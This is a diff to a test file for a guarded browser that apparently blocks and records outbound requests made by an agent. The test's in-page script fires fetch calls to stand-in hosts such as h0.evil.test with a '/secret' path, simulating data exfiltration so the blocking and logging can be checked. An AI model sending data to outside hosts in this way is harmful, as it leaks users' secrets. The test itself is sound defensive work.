@@ -130,14 +130,18 @@ describe.skipIf(path === undefined)('a guarded browser', () => {
     await tab.evaluate(
       `Promise.all(Array.from({ length: 25 }, (_, i) => fetch('http://h' + i + '.evil.test:${evil.port}/secret?word').catch(String)))`,
     )
-    expect(count.now()).toMatchObject({ requests: 25, more: 5 })
+    // A request on a connection that was used before is repeated by Chromium, and counts again.
+    expect(count.now().requests).toBeGreaterThanOrEqual(25)
+    expect(count.now().hosts).toHaveLength(20)
     count.end()
     await tab.open(`${origin}/page`)
     await vi.waitFor(() => {
       ledger.host.advance(1_000)
-      expect(rig.blocked().filter(({ hosts }) => hosts[0]?.startsWith('h'))).toMatchObject([
-        { ...{ principal: 'agent:ci', session: 's1' }, pages: 1, requests: 25, more: 5, types: ['fetch'] },
-      ])
+      const receipts = rig.blocked().filter(({ hosts }) => hosts.some((host) => host.startsWith('h1.')))
+      expect(receipts).toMatchObject([{ principal: 'agent:ci', session: 's1', pages: 1, types: ['fetch'] }])
+      expect(receipts[0]?.page_host).toBe(`allowed.test:${rig.good.port}`)
+      expect(receipts[0]?.hosts).toHaveLength(20)
+      expect(receipts[0]?.more).toBeGreaterThanOrEqual(5)
     }, PATIENCE)
     expect(JSON.stringify(rig.blocked())).not.toContain('secret')
   })
